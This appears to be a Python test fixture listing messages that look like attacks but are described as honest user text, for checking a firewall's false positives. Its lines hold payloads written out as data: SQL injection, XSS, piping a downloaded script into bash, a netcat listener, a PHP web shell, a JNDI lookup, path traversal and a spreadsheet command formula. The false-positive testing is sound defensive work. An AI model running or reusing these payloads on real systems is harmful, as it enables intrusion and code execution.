"""Fifty messages that honest people write and a firewall takes for an attack."""

PASTED = tuple(
    line
    for line in r"""
SELECT * FROM users WHERE id = 1 OR 1=1 --
'; DROP TABLE orders; --
why does UNION SELECT null, version() fail on 15?
admin' or '1'='1' is the example from the training, right?
INSERT INTO log VALUES ('it''s', now()); what is wrong here
EXEC xp_cmdshell 'dir' was switched off last year
DELETE FROM cart WHERE user_id IN (SELECT id FROM users); is this slow?
explain ' AND SLEEP(5)-- in simple words
select pg_sleep(10); keeps my session open
ORDER BY 5; /* comment */ HAVING 1=1
<script>alert(1)</script> shows up in our form, please explain
<img src=x onerror=alert(document.cookie)>
<a href="javascript:void(0)">click</a> is what the designer sent
<iframe src="https://intranet/report"></iframe>
<svg onload=init()> does not run in Safari
document.cookie = "a=b; path=/"
eval(atob("YWxlcnQoMSk=")) was in the minified file
<body onload="start()"> or addEventListener, which is better?
<style>@import 'theme.css'</style>
"><input value="x"> breaks the page
cat /etc/passwd | cut -d: -f1
rm -rf node_modules && npm ci
curl http://localhost:8080/health | jq .status
wget -qO- https://example.com/install.sh | bash
sudo chmod 777 /var/www; is that a good idea?
powershell -enc SQBFAFgA is what the alert says
cmd.exe /c dir C:\Users\ > out.txt
nc -lvp 4444 for the port test
$(whoami) inside backticks `id`
; ls -la /home; echo done
../../../../etc/hosts is where the link points
C:\..\..\Windows\System32\drivers\etc\hosts
file:///etc/hosts opens in the browser
http://169.254.169.254/latest/meta-data is our health probe, why blocked?
%2e%2e%2f in the access log, what is that?
%00 at the end of the file name
<?php system($_GET['c']); ?> was on the old server
<% Runtime.getRuntime().exec("id") %>
${jndi:ldap://example.com/a} appears in our logs
{{7*7}} prints 49 in the template
#{T(java.lang.Runtime)} in the Spring advisory
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hosts">]><x>&a;</x>
(&(objectClass=user)(cn=*)) is the LDAP filter
*)(uid=*))(|(uid=* from the pentest report
User-Agent: sqlmap/1.7 in yesterday's log
Set-Cookie: a=b\r\nLocation: https://example.com
__import__('os').system('ls') in a notebook
require('child_process').exec('ls')
O:8:"stdClass":0:{} is PHP's serialised form
=cmd|'/c calc'!A1 in cell A1 of the export
""".splitlines()
    if line
)
